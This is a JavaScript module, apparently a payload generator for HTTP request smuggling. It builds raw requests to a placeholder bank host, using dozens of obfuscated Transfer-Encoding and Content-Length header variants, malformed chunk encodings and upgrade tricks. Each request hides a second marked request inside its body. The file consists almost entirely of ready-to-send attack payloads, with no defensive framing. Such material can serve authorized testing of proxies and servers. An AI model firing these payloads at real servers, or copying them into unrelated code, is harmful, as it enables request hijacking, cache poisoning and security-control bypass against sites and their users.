const CRLF = '\r\n';
const HOST = 'Host: www.bank.example';
const POSTED = 'POST /api/webSiteConfig/getNetOption HTTP/1.1';
const TYPE = 'Content-Type: application/json';

const joined = (...lines) => lines.join(CRLF);

/** What the call takes: a body that is refused ends the connection, and what is hidden behind it is never looked at. */
const SOUND = '{}';
const SOUND_CHUNK = joined(SOUND.length.toString(16), SOUND, '');

/** The request that is hidden in a body: it is answered only where two readers disagree where a request ends. */
const hidden = (mark) => joined(`GET /smuggled-${mark} HTTP/1.1`, HOST, 'X-A: b', '', '');

/** Both lengths, in every way to write the second that some reader takes and another overlooks. */
const TRANSFER_ENCODINGS = [
  'Transfer-Encoding: chunked',
  'transfer-encoding: CHUNKED',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding:chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding: \tchunked\t',
  ' Transfer-Encoding: chunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  'Transfer-Encoding: chunked;a=b',
  'Transfer-Encoding: cow',
  'Transfer-Encoding:',
  'Transfer-Encoding: identity',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding: x\r\n\tchunked',
  'Transfer-Encoding: cow\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: cow',
  'X: y\nTransfer-Encoding: chunked',
  'X: y\rTransfer-Encoding: chunked',
  'X: y\0Transfer-Encoding: chunked',
  'Transfer\0-Encoding: chunked',
  'Transfer-Encoding\0: chunked',
  'Transfer-Encoding: \0chunked',
  'Transfer-Encoding: chunked\0',
  'Transfer-Encoding: \x0bchunked',
  'Transfer-Encoding: \x0cchunked',
  'Transfer-Encoding: \u00a0chunked',
  'Content-Encoding: chunked\r\nTransfer-Encoding: chunked',
];

/** A name that nobody takes for the other: only the length counts, and what follows it is the sender's next request. */
const OTHER_NAMES = ['Transfer_Encoding: chunked', 'X-Transfer-Encoding: chunked'];

const LENGTHS = [
  'Content-Length: 2\r\nContent-Length: %',
  'Content-Length: %\r\nContent-Length: 2',
  'Content-Length: 2, %',
  'Content-Length: %, 2',
  'Content-Length: %, %',
  'Content-Length : 2\r\nContent-Length: %',
  'Content-Length: +%',
  'Content-Length: -0',
  'Content-Length: 0x%',
  'Content-Length: 0%',
  'Content-Length: %.0',
  'Content-Length: %e0',
  'Content-Length: "%"',
  'Content-Length:',
  'Content-Length: \0%',
  'Content-Length: 99999999999999999999',
  'Content-Length: 18446744073709551616',
  'Content-Length:\r\n 2',
  'Content-Length: 2\r\n\t%',
  'Content\0-Length: %',
  'X: y\nContent-Length: 2\r\nContent-Length: %',
  'X: y\rContent-Length: 2\r\nContent-Length: %',
];

const CHUNKS = [
  '0\r\n\r\n',
  '0;a=b\r\n\r\n',
  '0;\n\r\n',
  '0 \r\n\r\n',
  '00\r\n\r\n',
  '0x0\r\n\r\n',
  '-0\r\n\r\n',
  '+0\r\n\r\n',
  '0\n\n',
  '0\r\r\n',
  '0\n\r\n',
  '0\r\nContent-Length: 9\r\n\r\n',
  '0\r\nTransfer-Encoding: chunked\r\n\r\n',
  '1;\nx\r\n0\r\n\r\n',
  '1;a="\r\n"\r\nx\r\n0\r\n\r\n',
  '1\r\nxx\r\n0\r\n\r\n',
  '2\r\nx\r\n0\r\n\r\n',
  'g\r\nx\r\n0\r\n\r\n',
  'ffffffffffffffff\r\nx\r\n0\r\n\r\n',
  '10000000000000001\r\nx\r\n0\r\n\r\n',
];

const HEADS = [
  (mark) => `GET /robots.txt HTTP/1.1\n${HOST}\nContent-Length: ${hidden(mark).length}\n\n${hidden(mark)}`,
  (mark) =>
    joined('GET /robots.txt HTTP/1.1', HOST, `Content-Length: ${hidden(mark).length}`, '', hidden(mark)),
  (mark) =>
    joined('HEAD /robots.txt HTTP/1.1', HOST, `Content-Length: ${hidden(mark).length}`, '', hidden(mark)),
  (mark) =>
    joined(
      'GET /robots.txt HTTP/1.0',
      'Transfer-Encoding: chunked',
      'Content-Length: 5',
      '',
      `0${CRLF}${CRLF}`,
      hidden(mark),
    ),
  () => joined('GET /robots.txt HTTP/1.1', `${HOST}\r\n x`, '', ''),
  (mark) =>
    joined(
      'GET /robots.txt HTTP/1.1',
      'Host: a',
      'Host: b',
      `Content-Length: ${hidden(mark).length}`,
      '',
      hidden(mark),
    ),
  (mark) => joined('OPTIONS * HTTP/1.1', HOST, `Content-Length: ${hidden(mark).length}`, '', hidden(mark)),
  (mark) =>
    joined(
      'GET /robots.txt HTTP/1.1',
      HOST,
      'Upgrade: websocket',
      'Connection: Upgrade',
      `Content-Length: ${hidden(mark).length}`,
      '',
      hidden(mark),
    ),
  (mark) =>
    joined(
      'GET /robots.txt HTTP/1.1',
      HOST,
      'Upgrade: h2c',
      'Connection: Upgrade, HTTP2-Settings',
      'HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA',
      `Content-Length: ${hidden(mark).length}`,
      '',
      hidden(mark),
    ),
  (mark) =>
    joined(
      POSTED,
      HOST,
      TYPE,
      'Expect: 100-continue',
      `Content-Length: ${hidden(mark).length}`,
      '',
      hidden(mark),
    ),
  (mark) =>
    joined(
      POSTED,
      HOST,
      TYPE,
      'Connection: Content-Length',
      `Content-Length: ${hidden(mark).length}`,
      '',
      hidden(mark),
    ),
  (mark) =>
    joined(
      POSTED,
      HOST,
      TYPE,
      'Connection: Transfer-Encoding',
      'Transfer-Encoding: chunked',
      '',
      hidden(mark).length.toString(16),
      hidden(mark),
      '0',
      '',
      '',
    ),
];

/** Name and bytes of every shape; the mark of the hidden request is its number. */
export function desyncShapes() {
  const shapes = [];
  const add = (name, bytesOf) => shapes.push({ name, mark: shapes.length, bytes: bytesOf(shapes.length) });
  for (const encoding of [...TRANSFER_ENCODINGS, ...OTHER_NAMES]) {
    // The front counts, the back reads chunks; and the other way round.
    add(`length, then ${JSON.stringify(encoding)}`, (mark) => {
      const body = `${SOUND_CHUNK}0${CRLF}${CRLF}${hidden(mark)}`;
      return joined(POSTED, HOST, TYPE, `Content-Length: ${body.length}`, encoding, '', body);
    });
    if (OTHER_NAMES.includes(encoding)) continue;
    add(`${JSON.stringify(encoding)}, then length`, (mark) => {
      const chunk = `${hidden(mark).length.toString(16)}${CRLF}`;
      const body = `${chunk}${hidden(mark)}${CRLF}0${CRLF}${CRLF}`;
      return joined(POSTED, HOST, TYPE, encoding, `Content-Length: ${chunk.length}`, '', body);
    });
  }
  for (const length of LENGTHS)
    add(JSON.stringify(length), (mark) => {
      const body = `${SOUND}${hidden(mark)}`;
      return joined(POSTED, HOST, TYPE, length.replaceAll('%', String(body.length)), '', body);
    });
  for (const chunks of CHUNKS)
    add(`chunks ${JSON.stringify(chunks)}`, (mark) => {
      const body = `${SOUND_CHUNK}${chunks}${hidden(mark)}`;
      return joined(
        POSTED,
        HOST,
        TYPE,
        'Transfer-Encoding: chunked',
        `Content-Length: ${body.length}`,
        '',
        body,
      );
    });
  for (const [i, head] of HEADS.entries()) add(`head ${i + 1}`, head);
  return shapes;
}
